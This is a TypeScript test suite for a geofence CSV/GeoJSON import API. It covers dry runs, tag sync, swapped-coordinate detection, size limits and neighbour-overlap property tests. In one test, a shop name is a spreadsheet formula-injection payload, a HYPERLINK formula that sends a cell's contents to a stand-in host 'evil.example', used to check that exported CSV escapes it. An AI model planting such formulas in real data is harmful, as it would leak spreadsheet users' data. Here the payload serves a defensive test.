import fc from "fast-check";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { distance } from "../../geo/index.ts";
import { csvText } from "../../src/http/csv.ts";
import { type Neighbour, Neighbours } from "../../src/http/imports/geofences/neighbours.ts";
import type { ImportReport } from "../../src/http/imports/geofences/report.ts";
import { secretKey } from "../support/hosts/hosts.ts";
import { type InProcess, inProcess } from "./in-process.ts";

let world: InProcess;
beforeEach(() => {
  world = inProcess(Date.parse("2026-11-22T10:00:00Z"));
});
afterEach(() => {
  expect(world.reported).toEqual([]);
  world.close();
});

type Answer = ImportReport & { status: number; code?: string; detail: string };

async function send(
  body: string | ReadableStream<Uint8Array>,
  query = "",
  type = "text/csv",
): Promise<Answer> {
  const answer = await world.app.request(`/v1/geofences/import?${query}`, {
    method: "POST",
    headers: { Authorization: `Bearer ${secretKey}`, "Content-Type": type },
    body,
    ...({ duplex: "half" } as object),
  });
  return { status: answer.status, ...((await answer.json()) as ImportReport) } as Answer;
}
const get = async (path: string) =>
  (await world.app.request(path, { headers: { Authorization: `Bearer ${secretKey}` } })).json() as Promise<
    Record<string, unknown> & { data: { changes: unknown[] }[] }
  >;
const tables = () =>
  ["catalogue", "audit"].map((name) => world.shard.sql.all(`SELECT * FROM ${name} ORDER BY 1, 2`));
const counts = ({ created, updated, unchanged, disabled, rejectedTotal }: Answer) =>
  [created, updated, unchanged, disabled, rejectedTotal].join(" ");
const shops = (places: readonly (readonly [latitude: number, longitude: number])[], header = "id,lat,lon") =>
  `${header}\n${places.map(([latitude, longitude], i) => `s${i},${latitude},${longitude}`).join("\n")}`;

describe("a table of shops", () => {
  const table =
    "id;name;lat;lng;radius;tags;openingHours\na;A;48,87;2,33;150;store;24/7\nb;B;48,88;2,34;;store;24/7\n";

  it("is imported as its dry run said; the same again changes nothing at all", async () => {
    const before = tables();
    const said = await send(table, "dryRun=true");
    expect(tables()).toEqual(before);
    expect(await send(table)).toEqual({ ...said, dryRun: false });
    expect(said).toMatchObject({ status: 200, created: 2, rejected: [], warnings: [], warningTotals: {} });
    expect(await get("/v1/geofences/b")).toMatchObject({ name: "B", radius: 200, timezone: "Europe/Paris" });
    const after = tables();
    world.clock.now += 60_000;
    expect(await send(table)).toMatchObject({ created: 0, updated: 0, unchanged: 2, changes: [] });
    expect(tables()).toEqual(after);
    expect((await get("/v1/audit")).data.map(({ changes }) => changes[0])).toEqual([
      { field: "created", to: 2 },
    ]);
  });

  it("takes a radius from the row, else from the request, else leaves the one there is", async () => {
    await send(table);
    expect(counts(await send(table, "radius=300"))).toBe("0 1 1 0 0");
    expect(await get("/v1/geofences/a")).toMatchObject({ radius: 150 });
    expect(await get("/v1/geofences/b")).toMatchObject({ radius: 300 });
    expect(counts(await send(table))).toBe("0 0 2 0 0");
    const ids = "id,lat,lng\na,48.87,2.33\n";
    expect(counts(await send(ids))).toBe("0 0 1 0 0");
  });

  it("is the whole truth of a tag with sync: zones go and come back", async () => {
    await send(table);
    await send("id,lat,lng,tags\nother,48.9,2.3,elsewhere\n");
    const one = table.split("\n").slice(0, 2).join("\n");
    const said = await send(one, "sync=store&dryRun=true");
    expect(said).toMatchObject({
      unchanged: 1,
      disabled: 1,
      changes: [{ kind: "disabled", row: null, id: "b" }],
    });
    expect(await send(one, "sync=store")).toEqual({ ...said, dryRun: false });
    expect(await get("/v1/geofences/b")).toMatchObject({ enabled: false });
    expect(await get("/v1/geofences/other")).toMatchObject({ enabled: true });
    expect(counts(await send(one, "sync=store"))).toBe("0 0 1 0 0");
    expect(counts(await send(table))).toBe("0 0 2 0 0");
    expect(counts(await send(table, "sync=store"))).toBe("0 1 1 0 0");
    expect(await get("/v1/geofences/b")).toMatchObject({ enabled: true });
    expect((await get("/v1/audit")).data[1]!.changes).toContainEqual({ field: "sync", to: "store" });
  });

  it("disables no shop for a row that is rejected, by whichever form of its id", async () => {
    const osm = "id,lat,lng,tags\na,48.87,2.33,store\nnode/7,48.88,2.34,store\n";
    await send(osm);
    expect(counts(await send(osm.replace("48.88", "n/a"), "sync=store"))).toBe("0 0 1 0 1");
    expect(await get("/v1/geofences/node:7")).toMatchObject({ enabled: true });
  });

  it("disables no shop for a row that is rejected, nor any for a file that broke", async () => {
    await send(table);
    const swapped = "id,lat,lng,tags\na,48.87,2.33,store\nb,2.34,48.88,store\n";
    expect(counts(await send(swapped, "sync=store"))).toBe("0 0 1 0 1");
    expect(await get("/v1/geofences/b")).toMatchObject({ enabled: true });
    const torn = 'id,lat,lng,tags\na,48.87,2.33,store\n"b,48.88';
    const nameless = "id,lat,lng,tags\na,48.87,2.33,store\n,48.88,2.34,store\n";
    const misnamed = nameless.replace("\n,", "\nb or not,");
    for (const body of [torn, "id,lat,lng,tags\n", nameless, misnamed]) {
      const skipped = await send(body, "sync=store");
      expect(skipped).toMatchObject({ disabled: 0, warnings: [{ code: "sync_skipped", row: null }] });
    }
    expect(await send("id,lat,lng,tags\na,48.87,2.33,\n", "sync=store")).toMatchObject({
      warningTotals: { without_sync_tag: 1 },
    });
  });

  it("shows names as they came, and no spreadsheet runs them", async () => {
    const name = '=HYPERLINK("https://evil.example?x="&A1,"Sale")';
    await send(`id,lat,lng,name,=note\na,48.87,2.33,"${name.replaceAll('"', '""')}",+1\n`);
    const zone = await get("/v1/geofences/a");
    expect(zone).toMatchObject({ name, metadata: { "=note": "+1" } });
    const line = csvText([String(zone.name), "@cmd", "-1"]);
    expect(line).toBe(`"'${name.replaceAll('"', '""')}",'@cmd,'-1\r\n`);
  });
});

describe("coordinates that are swapped", () => {
  const french = [
    ...[
      [48.86, 2.35],
      [45.76, 4.84],
      [43.3, 5.37],
      [43.6, 1.44],
      [43.7, 7.27],
      [47.22, -1.55],
      [48.57, 7.75],
    ],
    ...[
      [43.61, 3.88],
      [44.84, -0.58],
      [50.63, 3.06],
      [48.11, -1.68],
      [49.26, 4.03],
      [49.49, 0.11],
      [45.44, 4.39],
    ],
    ...[
      [43.12, 5.93],
      [45.19, 5.72],
      [47.32, 5.04],
      [47.47, -0.55],
      [43.84, 4.36],
      [48.39, -4.49],
    ],
  ] as unknown as readonly (readonly [number, number])[];

  it("are told one by one where the file knows better", async () => {
    const answer = await send(shops([...french, [2.35, 48.85], [4.83, 45.76], [0, 0]]), "dryRun=true");
    expect(answer.rejected.map(({ row, pointer }) => [row, pointer])).toEqual([
      [21, "/latitude"],
      [22, "/latitude"],
      [23, "/latitude"],
    ]);
    expect(answer.rejected[0]!.detail).toContain("in FR the other way round");
  });

  const swap = ([latitude, longitude]: readonly [number, number]) => [longitude, latitude] as const;
  const six = [...french.slice(0, 1), ...french.slice(9, 14)];
  const cities = [
    ...[
      [45.76, 4.84],
      [43.3, 5.37],
      [43.7, 7.27],
      [48.57, 7.75],
    ],
    ...[
      [43.6, 1.44],
      [44.84, -0.58],
      [43.61, 3.88],
      [45.19, 5.72],
    ],
  ] as unknown as readonly (readonly [number, number])[];

  it.each([
    ...cities.map((city) => ["a city of the file's country", six, [city]] as const),
    ["more cities than there are right ones", six, cities],
    ...(
      [
        ["Berlin", [52.52, 13.4], [48.14, 11.58], [50.94, 6.96], [53.55, 9.99]],
        ["Rome", [41.9, 12.5], [45.46, 9.19], [40.85, 14.27], [45.07, 7.69]],
        ["Madrid", [40.42, -3.7], [41.39, 2.17], [37.39, -5.99], [39.47, -0.38]],
      ] as const
    ).map(([name, city, ...others]) => [name, others, [city]] as const),
    ["New York in a file of Paris", six, [[40.71, -74.01]]],
    ["London in a file of Paris", six, [[51.51, -0.13]]],
    [
      "London and New York in a file of Paris",
      six,
      [
        [51.51, -0.13],
        [40.71, -74.01],
      ],
    ],
  ] as [string, [number, number][], [number, number][]][])("are told of %s", async (_, right, wrong) => {
    const answer = await send(shops([...right, ...wrong.map(swap)]), "dryRun=true");
    expect(answer.rejected.map(({ row }) => row)).toEqual(wrong.map((_, i) => right.length + i + 1));
    expect(answer.created).toBe(right.length);
  });

  it.each([
    ["one shop far away", [...french, [24.71, 46.67]]],
    ["shops of a country that would lie in one of the file", [...french, [2.04, 45.34], [9.56, 44.06]]],
    ["one shop at sea near others", [...six, [51.2, 2.2]]],
    [
      "two shops of which one is swapped, nobody knows which",
      [
        [45.76, 4.84],
        [4.84, 45.76],
      ],
    ],
  ] as [string, [number, number][]][])("are not made of %s", async (_, places) => {
    const answer = await send(shops(places), "dryRun=true");
    expect(answer).toMatchObject({ created: places.length, rejected: [] });
  });

  it("are told of all rows when the columns are", async () => {
    const answer = await send(shops(french, "id,lon,lat"), "dryRun=true");
    expect(counts(answer)).toBe("0 0 0 0 20");
    expect(answer.rejected.every(({ detail }) => detail.includes("swapped"))).toBe(true);
  });

  it("are told by the country that the row itself names", async () => {
    const answer = await send(
      "id,lat,lon,country\na,4.84,45.76,FR\nb,4.84,45.76,SO\nc,45.76,4.84,fr\nd,48.86,2.35,FR\n",
      "dryRun=true",
    );
    expect(answer).toMatchObject({ created: 3, rejected: [{ row: 1, id: "a" }] });
  });

  it("are not made of shops that are spread over the world, or stand at sea", async () => {
    const world = shops([
      [33.8, 66],
      [50.6, 4.6],
      [44.2, 17.8],
      [36.2, 37.1],
      [-33.9, 18.4],
      [19.4, -99.1],
      [30, -40],
    ]);
    const answer = await send(world, "dryRun=true");
    expect(answer).toMatchObject({ created: 7, rejected: [], warningTotals: { at_sea: 1 } });
  });
});

describe("opening hours", () => {
  it("may name holidays that nobody here knows, with a warning", async () => {
    const hours = "Mo-Sa 10:00-20:00; PH off";
    const table = `id,lat,lon,openingHours\nlondon,51.51,-0.13,${hours}\nparis,48.87,2.33,${hours}`;
    const answer = await send(table, "dryRun=true");
    expect(answer).toMatchObject({ created: 2, rejected: [], warningTotals: { unknown_holidays: 1 } });
    expect(answer.warnings).toContainEqual({
      ...{ code: "unknown_holidays", row: 1, id: "london" },
      detail: "the days of PH are not known for this country and region: PH counts as no day",
    });
  });
});

describe("a file that ends in the middle", () => {
  const feature = (i: number) => ({
    ...{ type: "Feature", id: `f${i}`, properties: { name: "F" } },
    geometry: { type: "Point", coordinates: [2 + i / 1_000, 48] },
  });
  const begun = `{"type":"FeatureCollection","features":[${Array.from({ length: 1_200 }, (_, i) => JSON.stringify(feature(i))).join()}`;

  it("says how far it came, and can be sent again", async () => {
    const answer = await send(begun, "", "application/geo+json");
    expect(answer).toMatchObject({ status: 400, code: "not_json" });
    expect(answer.detail).toContain("1000 geofences were created and 0 updated before that");
    expect(counts(await send(`${begun}]}`, "", "application/geo+json"))).toBe("200 0 1000 0 0");
    expect((await send(`${begun}]`, "dryRun=true", "application/geo+json")).detail).not.toContain("created");
  });

  it("is refused when it is too large, however it is announced, and in little memory", async () => {
    const chunk = new TextEncoder().encode(`${"x".repeat(60)}\n`.repeat(10_000));
    let sent = 0;
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        sent += chunk.length;
        controller.enqueue(sent === chunk.length ? new TextEncoder().encode("id,lat,lon\n") : chunk);
      },
    });
    expect(await send(endless)).toMatchObject({ status: 413, code: "too_large" });
    expect(sent).toBeLessThan(70 * 1024 * 1024);
  });
});

it("looks at so many rows and no more, and says so", async () => {
  const rows = Array.from({ length: 200_003 }, (_, i) => (i < 200_000 ? `s${i},,` : `t${i},48,2`));
  const answer = await send(`id,lat,lon\n${rows.join("\n")}`, "dryRun=true&sync=store");
  expect(counts(answer)).toBe("0 0 0 0 200003");
});

it("takes an id that stands twice once, and lists no more than is bearable", async () => {
  const rows = Array.from({ length: 12_000 }, (_, i) => `s,${i === 0 ? 48 : 47},2`);
  const answer = await send(`id,lat,lon\n${rows.join("\n")}`);
  expect(counts(answer)).toBe("1 0 0 0 11999");
  expect(answer.rejected).toHaveLength(10_000);
  expect(answer.rejected[0]).toMatchObject({ row: 2, id: "s", pointer: "/id" });
});

describe("neighbours", () => {
  const zone = fc.record({
    east: fc.double({ min: -0.02, max: 0.02, noNaN: true }),
    north: fc.double({ min: -0.02, max: 0.02, noNaN: true }),
    radius: fc.oneof(fc.integer({ min: 10, max: 3_000 }), fc.constantFrom(10, 50_000, null)),
    isNew: fc.boolean(),
  });

  it("are those that comparing all with all would find, anywhere on Earth", () => {
    const places = fc.constantFrom([2.3, 48.8], [180, -17], [-179.99, 65], [30, 78], [0, 0]);
    const agrees = fc.property(fc.array(zone, { maxLength: 25 }), places, (zones, [longitude, latitude]) => {
      const all: Neighbour[] = zones.map(({ east, north, radius, isNew }, i) => {
        const lng = longitude! + east;
        return {
          ...{ id: `z${i}`, row: isNew ? i : null, longitude: lng > 180 ? lng - 360 : lng, radius },
          ...{ latitude: latitude! + north, area: radius === null ? 1_000 : Math.PI * radius ** 2 },
        };
      });
      const neighbours = new Neighbours();
      for (const one of all) neighbours.add(one);
      expect(neighbours.compare()).toBe(true);
      const found = [...neighbours.told(neighbours.overlaps), ...neighbours.told(neighbours.twins)];
      const pairs = new Map(all.map((one) => [one.id, 0]));
      for (const a of all)
        for (const b of all) {
          if (a === b || a.row === null || (a.radius === null) !== (b.radius === null)) continue;
          const apart = distance(a.longitude, a.latitude, b.longitude, b.latitude);
          if (apart <= 15 || (a.radius !== null && apart <= a.radius + b.radius!))
            pairs.set(a.id, pairs.get(a.id)! + 1);
        }
      const told = new Map(all.map((one) => [one.id, 0]));
      for (const { zone, count } of found) told.set(zone.id, told.get(zone.id)! + count);
      expect(told).toEqual(pairs);
    });
    fc.assert(agrees, { numRuns: process.env.PARVIS_LONG ? 3_000 : 300 });
  });

  it("are compared within bounds when all stand on one place", () => {
    const neighbours = new Neighbours();
    for (let i = 0; i < 20_000; i++)
      neighbours.add({ id: `z${i}`, row: i, longitude: 2, latitude: 48, radius: 50_000, area: 1 });
    expect(neighbours.compare()).toBe(false);
  });
});
